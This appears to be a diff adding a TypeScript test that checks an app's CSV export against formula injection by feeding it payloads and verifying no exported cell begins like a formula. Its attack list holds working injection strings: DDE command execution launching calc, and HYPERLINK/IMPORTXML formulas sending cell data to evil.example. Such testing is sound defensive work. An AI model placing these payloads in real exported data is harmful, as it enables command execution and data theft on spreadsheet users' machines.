@@ -1,0 +1,71 @@
+import { csv } from '../../src/screens/lists/csv.ts'
+import type { Column } from '../../src/ui/column.ts'
+import { promise } from './promise.ts'
+
+interface Row {
+  id: string
+  title: string
+  counterparty: string
+}
+
+const columns: Column<Row>[] = [
+  { key: 'id', header: 'ID', cell: () => '', value: ({ id }) => id },
+  { key: 'title', header: 'Title', cell: () => '', value: ({ title }) => title },
+  { key: 'counterparty', header: 'Counterparty', cell: () => '', text: ({ counterparty }) => counterparty },
+]
+
+const attacks = [
+  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1;"Click")', '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
+  '+1+cmd|\'/C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=DDE("cmd";"/C calc";"!A0")A0', '=\'file:///etc/passwd\'#$passwd.A1', '-1', '\t=1', '\r=1',
+]
+
+/** Ways to bring an attack to the beginning of a cell: by what spreadsheets skip, and by ends of cells in the middle. */
+const ways: ((attack: string) => string)[] = [
+  (attack) => attack,
+  (attack) => `"${attack}`,
+  (attack) => `"${attack}"`,
+  (attack) => `x","${attack}`,
+  (attack) => `x",${attack}`,
+  (attack) => `x,${attack}`,
+  (attack) => `x;${attack}`,
+  (attack) => `x";"${attack}`,
+  (attack) => `x\t${attack}`,
+  (attack) => `x\n${attack}`,
+  (attack) => `x\r\n${attack}`,
+  (attack) => `x\r${attack}`,
+  (attack) => `x"\r\n${attack}`,
+  (attack) => `"\r\n${attack}`,
+  (attack) => `\n${attack}`,
+  (attack) => `\t${attack}`,
+  (attack) => attack.replace(/^[=+\-@]/, (first) => String.fromCodePoint((first.codePointAt(0) ?? 0) + 0xfee0)),
+]
+
+/** The cells of a CSV file (RFC 4180), by the separator that the reader takes; a quote inside a cell is only a quote. */
+function cellsOf(text: string, separator: string): string[] {
+  const cells: string[] = []
+  let rest = text.replace(/^\uFEFF/, '')
+  while (rest !== '') {
+    const quoted = /^"((?:[^"]|"")*)"/.exec(rest)
+    const plain = quoted ? '' : (new RegExp(`^[^${separator}\r\n]*`).exec(rest)?.[0] ?? '')
+    cells.push(quoted ? (quoted[1] ?? '').replaceAll('""', '"') : plain)
+    rest = rest.slice(quoted ? quoted[0].length : plain.length).replace(new RegExp(`^(${separator}|\r\n|\r|\n)`), '')
+  }
+  return cells
+}
+
+/** Spreadsheets take these for a formula's beginning, some of them also in full width. */
+const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/
+
+promise(19, { short: {}, full: {} }, async () => {
+  const payloads = attacks.flatMap((attack) => ways.map((way) => way(attack)))
+  const wrong = payloads.flatMap((payload) => {
+    const text = csv(columns, [{ id: payload, title: payload, counterparty: payload }])
+    const whole = cellsOf(text, ',').slice(3)
+    const readings = [',', ';', '\t'].flatMap((separator) => cellsOf(text, separator).filter((cell) => formula.test(cell)).map((cell) => ({ separator, cell })))
+    return [
+      ...(whole.length === 3 ? [] : [`${JSON.stringify(payload)} makes ${whole.length} cells of 3.`]),
+      ...readings.map(({ separator, cell }) => `${JSON.stringify(payload)}, read by ${JSON.stringify(separator)}: ${JSON.stringify(cell)}`),
+    ]
+  })
+  return { figure: `${payloads.length} payloads in three cells each, read by commas, semicolons and tabs: ${wrong.length} formulas`, wrong: wrong.slice(0, 20) }
+})
